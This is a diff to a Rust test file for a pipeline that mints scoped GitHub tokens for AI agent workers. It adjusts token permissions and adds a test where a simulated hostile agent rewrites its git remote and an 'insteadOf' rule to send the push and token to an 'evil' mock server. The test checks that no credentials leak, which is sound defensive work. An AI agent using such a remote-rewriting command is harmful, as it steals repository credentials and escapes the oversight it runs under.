@@ -127,15 +127,21 @@ async fn a_github_app_mints_a_scoped_token_for_each_clone_and_push() {
     let minted = app.minted.clone();
     let git = GitHttp::start(
         git_root.path().to_owned(),
-        Arc::new(move |repo, password| {
+        Arc::new(move |repo, service, password| {
             let Some(password) = password else {
                 return false;
+            };
+            // As GitHub does: a token for this repository, with write to push, read to clone.
+            let needed = if service == "git-receive-pack" {
+                &["write"][..]
+            } else {
+                &["read", "write"][..]
             };
             minted.lock().unwrap().iter().any(|m| {
                 m.token == password
                     && repo == "acme/app.git"
                     && m.repositories.as_deref() == Some(&["app".to_owned()][..])
-                    && m.permissions["contents"] == "write"
+                    && needed.iter().any(|n| m.permissions["contents"] == *n)
             })
         }),
     )
@@ -199,10 +205,14 @@ async fn a_github_app_mints_a_scoped_token_for_each_clone_and_push() {
             .iter()
             .find(|m| m.token == p)
             .expect("a minted token");
+        let want = if s.service == "git-receive-pack" {
+            json!({"contents": "write", "pull_requests": "write"})
+        } else {
+            json!({"contents": "read"})
+        };
         assert_eq!(
-            m.permissions,
-            json!({"contents": "write", "pull_requests": "write"}),
-            "the worker's token carries just contents and pull-request write"
+            m.permissions, want,
+            "a clone gets contents read, a push contents and pull-request write"
         );
     }
     let push_tokens: Vec<_> = with_password
@@ -454,4 +464,87 @@ async fn the_pipeline_waits_out_a_retry_after() {
         asked[1] - asked[0]
     );
     assert!(bench.logs().contains("retry_in=3s"), "the wait is logged");
+}
+
+/// A hostile agent rewrites its clone's git configuration (`origin` and an `insteadOf` rule)
+/// so that the push, and the minted token with it, would go to its own server: the worker
+/// pushes to the job's repository or not at all, and its credentials go nowhere else.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rewritten_remote_gets_no_token() {
+    let git_root = tempfile::tempdir().unwrap();
+    bare_repo_with_main(git_root.path(), "acme/app");
+    let app = AppEndpoints::default();
+    let minted = app.minted.clone();
+    let git = GitHttp::start(
+        git_root.path().to_owned(),
+        Arc::new(move |_, _, password| {
+            password.is_some_and(|p| minted.lock().unwrap().iter().any(|m| m.token == p))
+        }),
+    )
+    .await;
+    // The agent's server asks every caller for credentials, and keeps what it gets.
+    let evil = MockServer::start().await;
+    Mock::given(wiremock::matchers::any())
+        .respond_with(
+            ResponseTemplate::new(401).insert_header("www-authenticate", "Basic realm=\"evil\""),
+        )
+        .mount(&evil)
+        .await;
+    let key_dir = tempfile::tempdir().unwrap();
+    let key = app_key(key_dir.path());
+    let real = format!("{}/", git.url);
+    let repo_url = format!("{}/acme/app.git", git.url);
+    let agent = format!(
+        "git config url.{evil}/.insteadOf {real} && git remote set-url origin {evil}/acme/app.git && sh {script} ok",
+        evil = evil.uri(),
+        script = crate::common::jobs::scripted_agent().display(),
+    );
+    let mut bench = Bench::new(false, "ok", move |c, _| {
+        c.forge.app_id = Some(APP_ID);
+        c.forge.app_key_env = "CONDUCTOR_TEST_APP_KEY".into();
+        c.routes[0].repo = repo_url;
+        c.worker.pass_env = Vec::new();
+        c.worker.agent_command = agent;
+    })
+    .await;
+    Mock::given(path("/repos/acme/app/installation"))
+        .respond_with(app.clone())
+        .mount(&bench.forge)
+        .await;
+    Mock::given(method("POST"))
+        .and(path(format!(
+            "/app/installations/{INSTALLATION}/access_tokens"
+        )))
+        .respond_with(app.clone())
+        .mount(&bench.forge)
+        .await;
+    bench.submit(&["ticket-bare.json"]);
+    bench.start_with(&[("CONDUCTOR_TEST_APP_KEY", key.as_str())]);
+    bench.wait_for(JOB_DONE, 1).await;
+    bench.stop();
+    let tokens: Vec<String> = app
+        .minted
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|m| m.token.clone())
+        .collect();
+    for r in evil.received_requests().await.unwrap() {
+        let auth = r
+            .headers
+            .get("authorization")
+            .map(|v| v.to_str().unwrap().to_owned());
+        assert!(
+            auth.is_none(),
+            "the agent's server got credentials: {auth:?}"
+        );
+    }
+    assert!(!tokens.is_empty());
+    let outcome = bench
+        .text("SELECT state || ': ' || outcome FROM agent_jobs")
+        .await;
+    assert!(
+        outcome.starts_with("failed") && outcome.contains("refusing to send credentials"),
+        "{outcome}"
+    );
 }
